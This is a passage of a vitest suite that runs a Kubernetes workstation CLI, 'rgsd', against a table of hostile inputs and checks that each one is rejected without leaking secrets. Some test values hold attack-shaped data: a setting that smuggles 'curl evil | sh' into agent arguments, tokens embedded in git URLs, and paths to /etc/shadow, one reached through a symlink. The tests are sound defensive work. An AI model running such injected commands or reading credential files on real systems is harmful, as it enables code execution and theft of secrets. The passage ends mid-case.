// The bad-input suite (issue 8, item 12): the BUILT CLI against a table of hostile inputs,
// with recording stand-ins for helm and kubectl first on PATH. Each case asserts
//   - the exit code;
//   - exactly one `rgsd: …` line, then exactly one `hint: …` line, and the hint is the last
//     line (indented detail lines between the two only where the case allows them: helm's
//     schema errors); no stack trace, no "unexpected error", no "bug in rgsd";
//   - no call that changes anything (an allow-list of read-only calls), and exactly the
//     calls the case expects (none for a local mistake; the reads when it gets that far);
//   - no secret value anywhere in the output; nothing on stdout unless the case says so.
// The helm stand-in passes `version`, `template` and `lint` to the REAL Helm of .tools/bin
// (Helm 4, or Helm 3 where a case says so), so schema errors come from the real chart; any other call is answered from a table of
// read-only answers or fails with "no rule" (which fails the case). Runs without a terminal
// (stdin is an empty pipe), with `extendEnv: false` and a minimal environment.
import { chmodSync, existsSync, mkdirSync, readdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { execa } from 'execa';
import { beforeAll, describe, expect, it } from 'vitest';
import { SECRET_KEY, SECRET_TOKEN, writeProject } from '../helpers/project-fixture.js';
import { kubeconfigFile, REPO_ROOT, tempDir } from '../helpers/test-app.js';
import { CRASH_LOOP_PODS, IN_POD_STATUS_IDLE } from '../helpers/cluster-fixture.js';
import { makeShim, type ShimRule } from '../helpers/tool-shim.js';

const BIN = resolve(REPO_ROOT, 'bin', 'rgsd');
/** The real Helm binaries the stand-in passes local calls to (scripts/install-tools.mjs). */
const REAL_HELM = { 3: join(REPO_ROOT, '.tools', 'bin', 'helm3'), 4: join(REPO_ROOT, '.tools', 'bin', 'helm4') } as const;
const ROOT = process.getuid?.() === 0;
const NOBODY = 65534;

beforeAll(() => {
  if (!existsSync(resolve(REPO_ROOT, 'dist', 'main.js'))) throw new Error('dist/main.js missing: run `npm run build`');
  for (const bin of Object.values(REAL_HELM)) if (!existsSync(bin)) throw new Error(`${bin} missing: run \`npm run setup\``);
});

/** Can the CLI run as nobody here (as root, for the permission cases)? undefined when it can,
 * else why not. */
async function nobodyProblem(): Promise<string | undefined> {
  if (!ROOT) return undefined; // not root: permissions apply to us, no other user needed
  const probe = await execa(process.execPath, ['-e', 'process.exit(0)'], {
    reject: false,
    uid: NOBODY,
    gid: NOBODY,
    env: { PATH: '/usr/bin:/bin' },
    extendEnv: false,
  });
  return probe.exitCode === 0 ? undefined : `node cannot run as uid ${NOBODY} here (${probe.stderr.split('\n')[0] || probe.exitCode})`;
}
const NOBODY_PROBLEM = await nobodyProblem();

// ---- stand-ins ----------------------------------------------------------------------------

const NS_JSON = JSON.stringify({ metadata: { name: 'rgsd', labels: { 'app.kubernetes.io/managed-by': 'rgsd' } } });
const release = (over: Record<string, string>) => ({
  name: 'demo',
  namespace: 'rgsd',
  revision: '3',
  updated: '2026-11-22T10:00:00Z',
  status: 'deployed',
  chart: 'rgsd-0.1.0',
  app_version: '0.1.0',
  ...over,
});
const OBJECTS = JSON.stringify({
  items: [
    { kind: 'Deployment', metadata: { name: 'demo-rgsd', labels: { 'rgsd.dev/project': 'demo' } } },
    {
      kind: 'PersistentVolumeClaim',
      metadata: { name: 'demo-rgsd-home', labels: { 'rgsd.dev/project': 'demo' } },
      spec: { volumeName: 'pv-1' },
      status: { capacity: { storage: '20Gi' } },
    },
  ],
});

/** Read-only answers shared by every case (a case's own rules come first). */
const KUBECTL: ShimRule[] = [
  { match: '^config current-context$', stdout: 'ctx\n' },
  { match: '^--context ctx get namespace rgsd -o json$', stdout: NS_JSON },
  { match: '^--context ctx -n rgsd get all,pvc,', stdout: OBJECTS },
  { match: '^--context ctx -n rgsd get secret -o name$', stdout: 'secret/demo-rgsd-secrets\nsecret/sh.helm.release.v1.demo.v3\n' },
  {
    match:
      '^--context ctx -n rgsd exec deployment/demo-rgsd -c workstation --pod-running-timeout=10s -- /opt/rgsd/status --json --lines 0$',
    stdout: IN_POD_STATUS_IDLE,
  },
  // up's reads of the Deployment with the Secret, and its early question to the pod: no release
  {
    match: '^--context ctx -n rgsd get namespace/rgsd deployment/demo-rgsd secret/demo-rgsd-secrets --ignore-not-found -o json$',
    stdout: JSON.stringify({ items: [{ kind: 'Namespace', ...JSON.parse(NS_JSON) }] }),
  },
  {
    match: '^--context ctx -n rgsd exec deployment/demo-rgsd -c workstation --pod-running-timeout=1s -- /opt/rgsd/status --json --brief$',
    run: `echo 'Error from server (NotFound): deployments.apps "demo-rgsd" not found' >&2; exit 1`,
  },
];
const helmRules = (major: 3 | 4): ShimRule[] => [
  // local calls go to the real Helm: the chart's own schema judges the values
  { match: '^(version|template|lint)( |$)', run: `exec '${REAL_HELM[major]}' "$@"` },
  { match: '^--kube-context ctx -n rgsd list ', stdout: '[]' },
  { match: '^--kube-context ctx list -A ', stdout: '[]' },
  { match: '^--kube-context ctx -n rgsd status demo -o json$', run: `echo 'Error: release: not found' >&2; exit 1` },
];

/** Calls that change nothing. Everything else a stand-in records is a change. */
const READ_ONLY: RegExp[] = [
  /^kubectl config (current-context|get-contexts)( |$)/,
  /^kubectl version( |$)/,
  /^kubectl --context \S+ (-n \S+ )?(get|logs|version|cluster-info) /,
  /^kubectl --context \S+ -n \S+ auth can-i /,
  /^kubectl --context \S+ -n \S+ exec \S+ -c workstation (--pod-running-timeout=\S+ )?-- \/opt\/rgsd\/status --json( --lines \d+)?( --brief)?$/,
  /^kubectl --context \S+ -n \S+ exec \S+ -c workstation (--pod-running-timeout=\S+ )?-- \/opt\/rgsd\/task (check|list) --json$/,
  /^helm (version|template|lint|show)( |$)/,
  /^helm --kube-context \S+ (-n \S+ )?(list|status|get|history) /,
];
const changes = (calls: string[]) => calls.filter((c) => !READ_ONLY.some((r) => r.test(c)));

/** The calls cases expect, by name. */
const CALL = {
  helmVersion: /^helm version --template \{\{\.Version\}\}$/,
  template: /^helm template demo \S+ -n rgsd -f -$/,
  namespace: /^kubectl --context ctx get namespace rgsd -o json$/,
  list: /^helm --kube-context ctx -n rgsd list -o json .* --filter \^demo\$$/,
  listAll: /^helm --kube-context ctx list -A -o json .* --filter \^demo\$$/,
  /** up reads the release's record (status, values, manifest) */
  status: /^helm --kube-context ctx -n rgsd status demo -o json$/,
  /** …the Deployment (replicas, rollout) with the Secret */
  workload:
    /^kubectl --context ctx -n rgsd get namespace\/rgsd deployment\/demo-rgsd secret\/demo-rgsd-secrets --ignore-not-found -o json$/,
  /** …and asks the pod early (a running one answers at once) */
  early:
    /^kubectl --context ctx -n rgsd exec deployment\/demo-rgsd -c workstation --pod-running-timeout=1s -- \/opt\/rgsd\/status --json --brief$/,
  objects: /^kubectl --context ctx -n rgsd get all,pvc,/,
  secretNames: /^kubectl --context ctx -n rgsd get secret -o name$/,
  /** the work guard's look inside the pod */
  guard:
    /^kubectl --context ctx -n rgsd exec deployment\/demo-rgsd -c workstation --pod-running-timeout=10s -- \/opt\/rgsd\/status --json --lines 0$/,
};
/** What `up` reads once the local checks pass (the template runs concurrently). */
const UP_READS = [CALL.helmVersion, CALL.template, CALL.status, CALL.workload, CALL.early];
/** …and, when they show a release that is not current (or none), the look for copies elsewhere */
const UP_READS_ALL = [...UP_READS, CALL.listAll];
const NUKE_READS = [CALL.namespace, CALL.objects, CALL.secretNames, CALL.list, CALL.guard];

// ---- the cases ----------------------------------------------------------------------------

interface Ctx {
  /** the config directory (RGSD_CONFIG_DIR) */
  cfg: string;
  /** HOME */
  home: string;
  /** the working directory of the CLI */
  cwd: string;
}

type Text = string | RegExp;

interface BadInput {
  name: string;
  /** Files in the config directory etc. (default: project demo with the fixture's files). */
  setup?: (c: Ctx) => void;
  argv: string[];
  /** Extra environment (replaces the defaults of the same name). */
  env?: (c: Ctx) => Record<string, string>;
  exit: number;
  /** the text after `rgsd: ` (a string is matched exactly) */
  message: Text | ((c: Ctx) => Text);
  /** the text after `hint: ` (a string is matched exactly) */
  hint: Text | ((c: Ctx) => Text);
  /** Indented lines allowed between the two; each pattern must match one of them. */
  details?: RegExp[];
  /** The real Helm behind the stand-in's local calls (default 4). */
  helmMajor?: 3 | 4;
  /** Rules tried before the shared ones. */
  helm?: ShimRule[];
  kubectl?: ShimRule[];
  /** Exactly the calls the run makes (each pattern matches a call, each call a pattern); default none. */
  calls?: RegExp[];
  /** stdout must match (default: stdout is empty). */
  stdout?: RegExp;
  /** Values that must not appear in the output (beyond the fixture's secrets). */
  secrets?: string[];
  /** Run as nobody (as root), for permission cases; skipped with the reason when impossible. */
  asOther?: boolean;
  /** Further checks after the run (files not written, …). */
  after?: (c: Ctx) => void;
}

const esc = (s: string) => s.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
const settingsOf = (c: Ctx, p = 'demo') => join(c.cfg, 'projects', `${p}.yaml`);
const secretsOf = (c: Ctx, p = 'demo') => join(c.cfg, 'secrets', `${p}.env`);
const withSettings = (settings: string) => (c: Ctx) => void writeProject(c.cfg, 'demo', { settings });
const withEnv = (env: string) => (c: Ctx) => void writeProject(c.cfg, 'demo', { env });
/** An empty config directory (init's starting point). */
const EMPTY = () => undefined;
const HELP_HINT = 'see `rgsd --help` or `rgsd <command> --help`';
const SETTINGS_HINT = 'see README "Settings and secrets" for every key';

/** A value of `kib` KiB that is never printed. */
const bigValue = (kib: number, seed: string) => `${seed}${'x'.repeat(kib * 1024 - seed.length)}`;
const BIG_SEED = 'BIGSECRET-7f3a91';
/** Nine values of 60 KiB: each under the limit of one value, 540 KiB together. */
const NINE_BLOBS = Array.from({ length: 9 }, (_, i) => `BLOB_${i}=${bigValue(60, `${BIG_SEED}-${i}`)}\n`).join('');
// built at run time so that no token-shaped literal sits in the tree (secret scanners)
const TOKEN_IN_URL = ['ghp', 'URLTOKEN0123456789abcdef'].join('_');

const CASES: BadInput[] = [
  // -- the command line: usage errors (exit 2), nothing read, nothing run ---------------------
  {
    name: 'an unknown command',
    argv: ['frobnicate', 'demo'],
    exit: 2,
    message: "unknown command 'frobnicate'",
    hint: HELP_HINT,
  },
  {
    name: 'an unknown flag',
    argv: ['up', 'demo', '--force'],
    exit: 2,
    message: "unknown option '--force'",
    hint: HELP_HINT,
  },
  {
    name: 'a missing required argument (init without a project)',
    setup: EMPTY,
    argv: ['init'],
    exit: 2,
    message: "missing required argument 'project'",
    hint: HELP_HINT,
  },
  {
    name: 'a flag without its value (--timeout at the end)',
    argv: ['up', 'demo', '--timeout'],
    exit: 2,
    message: /^option '--timeout <duration>' argument missing$/,
    hint: HELP_HINT,
  },
  {
    name: 'init --agent vim (not a choice)',
    setup: EMPTY,
    argv: ['init', 'demo', '--agent', 'vim'],
    exit: 2,
    message: /^option '--agent <agent>' argument 'vim' is invalid\. Allowed choices are gsd, claude, codex, none\.$/,
    hint: HELP_HINT,
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'init --rbac root (not a choice)',
    setup: EMPTY,
    argv: ['init', 'demo', '--rbac', 'root', '--repo', ''],
    exit: 2,
    message: /^option '--rbac <mode>' argument 'root' is invalid\. Allowed choices are none, namespace, cluster-admin\.$/,
    hint: HELP_HINT,
  },
  {
    name: 'completion fish (not a choice)',
    argv: ['completion', 'fish'],
    exit: 2,
    message: /^command-argument value 'fish' is invalid for argument 'shell'\. Allowed choices are bash, zsh\.$/,
    hint: HELP_HINT,
  },
  {
    name: 'init --storage-size 20 (no unit)',
    setup: EMPTY,
    argv: ['init', 'demo', '--storage-size', '20', '--repo', ''],
    exit: 2,
    message: /^--storage-size "20" is not a size such as 20Gi/,
    hint: 'e.g. --storage-size 20Gi',
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'init --repo with a token in the URL (never echoed)',
    setup: EMPTY,
    argv: ['init', 'demo', '--repo', `https://x-access-token:${TOKEN_IN_URL}@github.com/org/repo.git`],
    exit: 2,
    message:
      '--repo "https://***@github.com/org/repo.git" has credentials in it (before the "@"): remove them and put the token in GITHUB_TOKEN in the secrets file',
    hint: /^e\.g\. --repo https:\/\/github\.com\/org\/repo\.git \(a token goes in GITHUB_TOKEN/,
    secrets: [TOKEN_IN_URL],
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'init --repo with a bare token as the user (https://token@…)',
    setup: EMPTY,
    argv: ['init', 'demo', '--repo', `https://${TOKEN_IN_URL}@github.com/org/repo.git`],
    exit: 2,
    message: /^--repo "https:\/\/\*\*\*@github\.com\/org\/repo\.git" has credentials in it/,
    hint: /GITHUB_TOKEN/,
    secrets: [TOKEN_IN_URL],
  },
  {
    name: 'init --repo ssh:// with a password',
    setup: EMPTY,
    argv: ['init', 'demo', '--repo', 'ssh://git:hunter2-pass@example.com/org/repo.git'],
    exit: 2,
    message:
      '--repo "ssh://***@example.com/org/repo.git" has credentials in it (before the "@"): remove them and put the deploy key in GIT_SSH_PRIVATE_KEY in the secrets file',
    hint: /^e\.g\. --repo https:\/\//,
    secrets: ['hunter2-pass'],
  },
  {
    name: 'init --repo ftp://…',
    setup: EMPTY,
    argv: ['init', 'demo', '--repo', 'ftp://example.com/repo.git'],
    exit: 2,
    message: /^--repo "ftp:\/\/example\.com\/repo\.git" is not an https or ssh git URL/,
    hint: /^e\.g\. --repo https:\/\//,
  },
  {
    name: 'init without a terminal and without answers',
    setup: EMPTY,
    argv: ['init', 'demo'],
    exit: 2,
    message: 'rgsd init needs answers and stdin is not a terminal',
    hint: /^pass --repo <url>/,
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'init -n kube-system',
    setup: EMPTY,
    argv: ['init', 'demo', '-n', 'kube-system', '--repo', ''],
    exit: 2,
    message: /^-n\/--namespace "kube-system" is one of Kubernetes' own namespaces/,
    hint: /^use a namespace of your own, e\.g\. -n rgsd/,
    after: (c) => expect(existsSync(join(c.cfg, 'projects'))).toBe(false),
  },
  {
    name: 'up --timeout 600h (over 24h)',
    setup: withSettings('repo: https://github.com/org/repo.git\n'),
    argv: ['up', 'demo', '--timeout', '600h'],
    exit: 2,
    message: '--timeout 600h is out of range (2160000s): it must be between 1s and 24h',
    hint: 'e.g. --timeout 10m',
  },
  {
    name: 'up --timeout 0 (it used to mean "no limit")',
    argv: ['up', 'demo', '--timeout', '0'],
    exit: 2,
    message: '--timeout "0" is not a duration',
    hint: 'use e.g. 90s, 5m or 1h30m',
  },
  {
    name: 'up --timeout soon',
    argv: ['up', 'demo', '--timeout', 'soon'],
    exit: 2,
    message: '--timeout "soon" is not a duration',
    hint: 'use e.g. 90s, 5m or 1h30m',
  },
  {
    name: 'restart --timeout 25h',
    argv: ['restart', 'demo', '--timeout', '25h', '--yes'],
    exit: 2,
    message: '--timeout 25h is out of range (90000s): it must be between 1s and 24h',
    hint: 'e.g. --timeout 10m',
  },
  {
    name: 'reset-home --timeout 500ms (under 1s)',
    argv: ['reset-home', 'demo', '--timeout', '500ms', '--yes'],
    exit: 2,
    message: '--timeout 500ms is out of range (1s): it must be between 1s and 24h',
    hint: 'e.g. --timeout 10m',
  },
  {
    name: '-n "" (it used to fall back to the default)',
    argv: ['up', 'demo', '-n', ''],
    exit: 2,
    message: '-n/--namespace is empty',
    hint: /^name one \(e\.g\. -n rgsd\)/,
  },
  {
    name: '-n kube-system',
    argv: ['up', 'demo', '-n', 'kube-system'],
    exit: 2,
    message: /^-n\/--namespace "kube-system" is one of Kubernetes' own namespaces/,
    hint: /^use a namespace of your own/,
  },
  {
    name: '-n kube-anything (the reserved prefix)',
    argv: ['down', 'demo', '-n', 'kube-mine'],
    exit: 2,
    message: /^-n\/--namespace "kube-mine" uses the prefix kube-, which Kubernetes reserves for itself/,
    hint: /^use a namespace of your own/,
  },
  {
    name: '-n Team_A (not a namespace name)',
    argv: ['status', '-n', 'Team_A'],
    exit: 2,
    message: /^-n\/--namespace "Team_A" is not a valid namespace name/,
    hint: /^a namespace is lowercase letters, digits and "-"/,
  },
  {
    name: 'logs --tail x',
    argv: ['logs', 'demo', '--tail', 'x'],
    exit: 2,
    message: '--tail "x" is not a whole number of lines',
    hint: 'e.g. --tail 200',
  },
  {
    name: 'logs --tail -1',
    argv: ['logs', 'demo', '--tail', '-1'],
    exit: 2,
    message: '--tail "-1" is not a whole number of lines',
    hint: 'e.g. --tail 200',
  },
  {
    name: 'connect --new "bad name"',
    argv: ['connect', 'demo', '--new', 'bad name'],
    exit: 2,
    message: '--new "bad name" is not a usable tmux session name',
    hint: /^use letters, digits, "_" and "-"/,
  },
  {
    name: 'connect --new with a tmux target (a:1)',
    argv: ['connect', 'demo', '--new', 'a:1'],
    exit: 2,
    message: '--new "a:1" is not a usable tmux session name',
    hint: /^use letters, digits/,
  },
  {
    name: 'connect --json without --list',
    argv: ['connect', 'demo', '--json'],
    exit: 2,
    message: '--json goes with --list',
    hint: 'rgsd connect demo --list --json',
  },
  {
    name: 'connect --list with --new',
    argv: ['connect', 'demo', '--list', '--new', 'x'],
    exit: 2,
    message: '--list does not attach: drop --new/--iterm',
    hint: 'rgsd connect --list',
  },
  {
    name: 'connect without a terminal',
    argv: ['connect', 'demo'],
    exit: 2,
    message: 'rgsd connect attaches your terminal, but stdin and stdout are not a terminal',
    hint: /^run it from an interactive terminal/,
  },
  {
    name: 'no project named and two configured',
    setup: (c) => {
      writeProject(c.cfg, 'alpha');
      writeProject(c.cfg, 'beta');
    },
    argv: ['up'],
    exit: 2,
    message: 'no project given and 2 are configured (alpha, beta)',
    hint: 'name one, e.g. `rgsd up alpha`',
  },

  // -- project names (exit 3) and an unknown project (exit 6) ---------------------------------
  {
    name: 'a project name in upper case',
    argv: ['up', 'Demo'],
    exit: 3,
    message: 'project name "Demo" is not a DNS-1123 label',
    hint: /^use lower-case letters, digits and "-"/,
  },
  {
    name: 'a project name of 54 characters',
    setup: EMPTY,
    argv: ['init', 'a'.repeat(54), '--repo', ''],
    exit: 3,
    message: `project name "${'a'.repeat(54)}" is 54 characters; at most 53 are allowed`,
    hint: /^use a shorter name/,
  },
  {
    name: 'a project name ending in "-"',
    argv: ['nuke', 'demo-', '--confirm', 'demo-'],
    exit: 3,
    message: 'project name "demo-" is not a DNS-1123 label',
    hint: /^use lower-case letters/,
  },
  {
    name: 'a project without a settings file',
    argv: ['up', 'ghost'],
    exit: 6,
    message: (c) => `project "ghost" has no settings file (${settingsOf(c, 'ghost')})`,
    hint: 'create it with `rgsd init ghost`, or pass --config-dir',
  },

  // -- the settings file (exit 3) -----------------------------------------------------------------
  {
    name: 'settings: resources.limits.cpu -1 (the chart schema refuses it; every error with its path)',
    setup: withSettings('repo: https://github.com/org/repo.git\nresources: {limits: {cpu: -1}}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: /^cannot render the chart with the values of demo: values don't meet the specifications of the schema/,
    details: [/^ {2}- at '\/resources\/limits\/cpu': 'anyOf' failed$/, /^ {4}- at '\/resources\/limits\/cpu': minimum: got -1, want 0$/],
    hint: (c) => new RegExp(`^fix the settings in ${esc(settingsOf(c))} .*; nothing was changed$`),
    calls: UP_READS,
  },
  {
    name: 'settings: tmuxSession "my session:1" (the chart schema refuses it)',
    setup: withSettings('repo: https://github.com/org/repo.git\ntmuxSession: "my session:1"\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: /^cannot render the chart with the values of demo: values don't meet the specifications of the schema/,
    details: [/^ {2}- at '\/tmux\/session': 'my session:1' does not match pattern '\^\[A-Za-z0-9_-\]\+\$'$/],
    hint: /^fix the settings in .*tmuxSession → tmux\.session.*; nothing was changed$/,
    calls: UP_READS,
  },
  {
    name: 'settings: resources.limits.cpu -1 with Helm 3 (its own wording of the schema errors)',
    helmMajor: 3,
    setup: withSettings('repo: https://github.com/org/repo.git\nresources: {limits: {cpu: -1}}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: /^cannot render the chart with the values of demo: values don't meet the specifications of the schema/,
    details: [
      /^ {2}- resources\.limits\.cpu: Must validate at least one schema \(anyOf\)$/,
      /^ {2}- resources\.limits\.cpu: Must be greater than or equal to 0$/,
    ],
    hint: /^fix the settings in .*; nothing was changed$/,
    calls: UP_READS,
  },
  {
    name: 'settings: tmuxSession "my session:1" with Helm 3',
    helmMajor: 3,
    setup: withSettings('tmuxSession: "my session:1"\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: /^cannot render the chart with the values of demo: values don't meet the specifications of the schema/,
    details: [/^ {2}- tmux\.session: Does not match pattern '\^\[A-Za-z0-9_-\]\+\$'$/],
    hint: /^fix the settings in .*; nothing was changed$/,
    calls: UP_READS,
  },
  {
    name: 'settings: repo ftp://…',
    setup: withSettings('repo: ftp://example.com/repo.git\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) =>
      `${settingsOf(c)}: repo "ftp://example.com/repo.git" is not an https or ssh git URL (e.g. https://github.com/org/repo.git or git@github.com:org/repo.git)`,
    hint: /^e\.g\. repo: https:\/\/github\.com\/org\/repo\.git .*a token goes in GITHUB_TOKEN/,
  },
  {
    name: 'settings: a token inside the repo URL (never echoed)',
    setup: withSettings(`repo: https://oauth2:${TOKEN_IN_URL}@github.com/org/repo.git\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))}: repo "https://\\*\\*\\*@github\\.com/org/repo\\.git" has credentials in it`),
    hint: /GITHUB_TOKEN in the secrets file, never in the URL$/,
    secrets: [TOKEN_IN_URL],
  },
  {
    name: 'settings: agentArgs as a string (it used to reach a shell)',
    setup: withSettings('agentArgs: "--model opus; curl evil | sh"\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))}: agentArgs must be a list of words, e\\.g\\. \\[--model, opus\\]`),
    hint: SETTINGS_HINT,
  },
  {
    name: 'settings: namespace kube-public',
    setup: withSettings('namespace: kube-public\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))}: namespace "kube-public" is one of Kubernetes' own namespaces`),
    hint: 'set `namespace:` to a namespace of your own, or remove the key for the default "rgsd"; README "Namespaces" says why',
  },
  {
    name: 'settings: not YAML',
    setup: withSettings('repo: [unclosed\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))} is not valid YAML: `),
    hint: 'fix the syntax (yamllint can help)',
  },
  {
    name: 'settings: an unknown key',
    setup: withSettings('repository: https://github.com/org/repo.git\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))}: repository is not a known setting \\(known: repo, `),
    hint: SETTINGS_HINT,
  },
  {
    name: 'settings: values.secrets (secrets through helm values)',
    setup: withSettings('values: {secrets: {existingSecret: mine}}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${settingsOf(c)}: values.secrets is not allowed: secrets go in the secrets file, never in helm values`,
    hint: SETTINGS_HINT,
  },
  {
    name: 'settings: storage.size "20" (no unit)',
    setup: withSettings('storage: {size: "20"}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => new RegExp(`^${esc(settingsOf(c))}: storage\\.size "20" is not a size such as 20Gi`),
    hint: SETTINGS_HINT,
  },
  {
    name: 'settings: rbac root',
    setup: withSettings('rbac: root\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${settingsOf(c)}: rbac must be one of none, namespace, cluster-admin (got "root")`,
    hint: SETTINGS_HINT,
  },
  {
    name: 'settings: extraEnv repeats a secret value (it would land in the release history)',
    setup: withSettings(`extraEnv: {HELPER: "${SECRET_KEY}"}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `the chart value extraEnv[0].value contains the value of secret ANTHROPIC_API_KEY (from ${settingsOf(c)})`,
    hint: /^secrets reach the pod only through the Secret.*; nothing was changed$/,
  },
  {
    name: 'settings: values repeat a secret value (git.userName)',
    setup: withSettings(`values: {git: {userName: "${SECRET_TOKEN}"}}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `the chart value git.userName contains the value of secret GITHUB_TOKEN (from ${settingsOf(c)})`,
    hint: /^secrets reach the pod only through the Secret.*; nothing was changed$/,
  },
  {
    name: 'settings path is a directory',
    setup: (c) => mkdirSync(settingsOf(c), { recursive: true }),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${settingsOf(c)} is a directory, not a file`,
    hint: /^remove or rename that directory/,
  },
  {
    name: '--chart that does not exist',
    argv: ['up', 'demo', '--chart', '/nonexistent/rgsd-chart'],
    exit: 3,
    message: /^cannot render the chart with the values of demo: .*\/nonexistent\/rgsd-chart/,
    hint: /^fix the settings in .* or the chart \(\/nonexistent\/rgsd-chart\); nothing was changed$/,
    calls: UP_READS.map((r) => (r === CALL.template ? /^helm template demo \/nonexistent\/rgsd-chart -n rgsd -f -$/ : r)),
  },

  // -- the secrets file (exit 3): file and line, never the value --------------------------------
  {
    name: 'secrets: a line "=value"',
    setup: withEnv(`GITHUB_TOKEN=${SECRET_TOKEN}\n=orphan-value-123\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:2: this line has no key before "="`,
    hint: /^every line is KEY=value/,
    secrets: ['orphan-value-123'],
  },
  {
    name: 'secrets: a line "KEY value"',
    setup: withEnv(`GITHUB_TOKEN ${SECRET_TOKEN}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:1: this line is not KEY=value (no "=")`,
    hint: /^every line is KEY=value/,
  },
  {
    name: 'secrets: an unterminated quote',
    setup: withEnv(`# keys\nANTHROPIC_API_KEY="${SECRET_KEY}\nGITHUB_TOKEN=${SECRET_TOKEN}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:2: the double quote of ANTHROPIC_API_KEY is never closed`,
    hint: 'close it with " at the end of the value',
  },
  {
    name: 'secrets: a duplicate key',
    setup: withEnv(`GITHUB_TOKEN=${SECRET_TOKEN}\nANTHROPIC_API_KEY=${SECRET_KEY}\nGITHUB_TOKEN=second-token-value\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:3: GITHUB_TOKEN is set twice (lines 1 and 3)`,
    hint: (c) => `keep one of the two lines in ${secretsOf(c)}`,
    secrets: ['second-token-value'],
  },
  {
    name: 'secrets: a lower-case key',
    setup: withEnv(`github_token=${SECRET_TOKEN}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:1: the key is not an upper-case environment name (^[A-Z_][A-Z0-9_]*$)`,
    hint: 'did you mean GITHUB_TOKEN?',
  },
  {
    name: 'secrets: text after a closing quote',
    setup: withEnv(`ANTHROPIC_API_KEY="${SECRET_KEY}" trailing-text\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:1: text after the closing quote of ANTHROPIC_API_KEY`,
    hint: /^only a # comment may follow a quoted value/,
  },
  {
    name: 'secrets: one value over 64 KiB',
    setup: withEnv(`GITHUB_TOKEN=${SECRET_TOKEN}\nBIG_BLOB=${bigValue(70, BIG_SEED)}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)}:2: the value of BIG_BLOB is 70 KiB; a value may have at most 64 KiB`,
    hint: /^the workstation exports every key into the agent’s environment/,
    secrets: [BIG_SEED],
  },
  {
    name: 'secrets: all values together over 512 KiB',
    setup: withEnv(`${NINE_BLOBS}GITHUB_TOKEN=${SECRET_TOKEN}\n`),
    argv: ['up', 'demo'],
    exit: 3,
    message: /^the secrets of project demo take 541 KiB; at most 512 KiB in all \(largest: BLOB_\d 60 KiB, /,
    hint: /^a Kubernetes Secret holds at most 1 MiB/,
    secrets: [BIG_SEED],
  },
  {
    name: 'secrets: the file does not exist',
    setup: (c) => {
      writeProject(c.cfg, 'demo');
      // the settings of a project whose secrets file was never written
      writeFileSync(settingsOf(c, 'other'), 'repo: https://github.com/org/repo.git\n');
    },
    argv: ['up', 'other'],
    exit: 3,
    message: (c) => `secrets file ${secretsOf(c, 'other')} does not exist`,
    hint: /^create it \(rgsd init writes one from secrets\.example\/\) with mode 0600$/,
  },
  {
    name: 'secrets: the file is readable by others (0644)',
    setup: (c) => void writeProject(c.cfg, 'demo', { envMode: 0o644 }),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `${secretsOf(c)} is accessible by group or others (mode 0644)`,
    hint: (c) => `chmod 600 ${secretsOf(c)}`,
  },
  {
    name: 'secrets: the directory others can enter (0755)',
    setup: (c) => {
      writeProject(c.cfg, 'demo');
      chmodSync(join(c.cfg, 'secrets'), 0o755);
    },
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `the secrets directory ${join(c.cfg, 'secrets')} is accessible by group or others (mode 0755)`,
    hint: (c) => `chmod 700 ${join(c.cfg, 'secrets')}`,
  },
  {
    name: 'secrets: files.models pointing at /etc/shadow',
    setup: withSettings('files: {models: /etc/shadow}\n'),
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) => `files.models in ${settingsOf(c)}: /etc/shadow is outside your home and the config directory`,
    hint: /^copy the file under .* \(mode 0600\), or set allowFilesOutside: true in /,
  },
  {
    name: 'secrets: files.models a symlink under the config directory to /etc/shadow',
    setup: (c) => {
      writeProject(c.cfg, 'demo', { settings: 'files: {models: models.json}\n' });
      symlinkSync('/etc/shadow', join(c.cfg, 'projects', 'models.json'));
    },
    argv: ['up', 'demo'],
    exit: 3,
    message: (c) =>
      `files.models in ${settingsOf(c)}: ${join(c.cfg, 'projects', 'models.json')} (→ /etc/shadow) is outside your home and the config directory`,
    hint: /^copy the file under /,
  },
  {
    name: 'secrets: files.preferences readable by others (0644)',
    setup: (c) => {
